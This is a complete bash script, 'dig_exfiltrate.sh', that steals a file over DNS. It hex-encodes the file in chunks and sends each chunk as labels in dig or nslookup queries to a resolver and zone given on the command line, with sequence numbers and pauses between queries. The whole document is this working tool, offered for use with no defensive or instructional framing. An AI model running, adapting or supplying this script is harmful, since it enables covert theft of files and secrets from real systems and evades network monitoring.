#!/bin/bash
# Sends a file in hexadecimal labels, one lookup a piece: dig_exfiltrate.sh RESOLVER ZONE FILE OCTETS PAUSE_S ASKER
# ASKER is dig or nslookup. Ends when the file does, or by a signal.
resolver=$1 zone=$2 file=$3 octets=$4 pause=$5 asker=$6
sequence=0
od -An -v -tx1 -w"$octets" "$file" | tr -d ' ' | while read -r piece; do
  sequence=$((sequence + 1))
  name="$sequence.${piece:0:60}"
  [ -n "${piece:60:60}" ] && name="$name.${piece:60:60}"
  case $asker in
    dig) dig +short +tries=1 +time=3 "@$resolver" A "$name.$zone" >/dev/null ;;
    nslookup) nslookup -timeout=3 -retry=1 "$name.$zone" "$resolver" >/dev/null ;;
  esac
  sleep "$pause"
done
